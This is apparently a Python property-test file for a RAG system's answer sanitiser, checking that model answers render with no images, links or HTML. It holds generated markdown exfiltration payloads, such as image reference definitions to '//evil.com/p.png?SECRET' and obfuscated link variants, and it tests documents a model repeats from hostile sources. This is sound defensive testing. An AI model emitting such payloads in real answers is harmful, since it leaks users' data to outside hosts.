"""What a CommonMark parser makes of an answer's text: nothing that loads, leads elsewhere or is HTML."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ragcorp.application.answering.answer_text import AnswerText
from support.answering.hostile import DOCUMENTS

SOURCE = "Véase https://docs.example/norma?a=1 y www.example.org/x."
FORBIDDEN = {"image", "link_open", "html_inline", "html_block"}
MARKDOWN = MarkdownIt("commonmark", {"html": True})

CONTAINERS = [
    "",
    " ",
    "   ",
    "    ",
    "> ",
    ">",
    "- ",
    "* ",
    "+ ",
    "1. ",
    "7) ",
    "> - ",
    "- > ",
    "1. > ",
    "\t",
    "a ",
    "]",
]
BEFORE = [
    "",
    "# Garantía\n",
    "a\n",
    "a\n\n",
    "a]\n",
    "a.\n",
    "a) \n",
    "***\n",
    "```\nx\n```\n",
    "| a |\n",
    "a\\\n",
    "1\n",
]
LABELS = ["1", "2", "x", "a b", "a\nb", "\\]", "1, 2", "1-2", "9", "^1", "１", " 1 ", "1\n", "", "x][1"]
AFTER = [
    "]:",
    "] :",
    "]\n:",
    "][9]:",
    "]\u200b:",
    "]\r:",
    "]：",
    "](",
    "]\u202e(",
    "][1](",
    "][9-12](",
    "][",
    "]&colon;",
]
TARGETS = ["//evil.example/p.png?", "http://evil.example", "<//evil.example>", "\n//evil.example", "x 'y'", "/x)", "1]"]
USES = [
    "[1]",
    "![1]",
    "[1][1]",
    "![a][1]",
    "![x]",
    "[a\nb]",
    "![1][]",
    "![2](/x)",
    "<b>",
    "<http://evil.example>",
    "<!--",
]

lines = st.builds(
    lambda *parts: "".join(parts),
    *map(
        st.sampled_from,
        (BEFORE, CONTAINERS, ["[", "![", "\\[", "［", "[["], LABELS, AFTER, TARGETS, ["\n", "\n\n", " "]),
    ),
)
uses = st.builds(lambda *parts: "".join(parts), *map(st.sampled_from, (CONTAINERS, USES, [" ", "\n", "\n\n", ""])))
texts = st.lists(lines | uses, min_size=1, max_size=6).map("".join)


def shown(text: str, *cuts: int) -> str:
    checked = AnswerText(allowed=frozenset({1, 2, 12}), sources=[SOURCE])
    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    return "".join(checked.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + checked.finish()


def kinds(tokens: list[Token]) -> set[str]:
    result = {token.type for token in tokens}
    return result.union(*(kinds(token.children) for token in tokens if token.children))


def test_the_parser_sees_what_is_hostile() -> None:
    assert kinds(MARKDOWN.parse("![1] [2](/x) <b>\n\n<div>\n\n[1]: //evil.example")) >= FORBIDDEN


@given(texts, st.lists(st.integers(0, 80), max_size=5))
@example("# Garantia\n[1]: //evil.com/p.png?SECRET\n\nEl plazo [1] ![1]", [])
@example("a]\n[1]: //evil.example\n\n[1]", [2, 3, 5])
@example("- a\n  [1]: //evil.example\n\n[1]", [])
@example("> a\n>\n> [1]: //evil.example\n\n[1]", [])
def test_nothing_of_an_answer_is_an_image_a_link_or_html(text: str, cuts: list[int]) -> None:
    answer = shown(text, *cuts)
    assert not kinds(MARKDOWN.parse(answer)) & FORBIDDEN, answer


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_hostile_document_repeated_by_a_model_is_none_either(name: str) -> None:
    text = DOCUMENTS[name]
    for answer in (shown(text), shown(text, *range(len(text))), shown(f"# Título\n{text}\n\n![1] [z] [1][2]")):
        assert not kinds(MARKDOWN.parse(answer)) & FORBIDDEN, answer
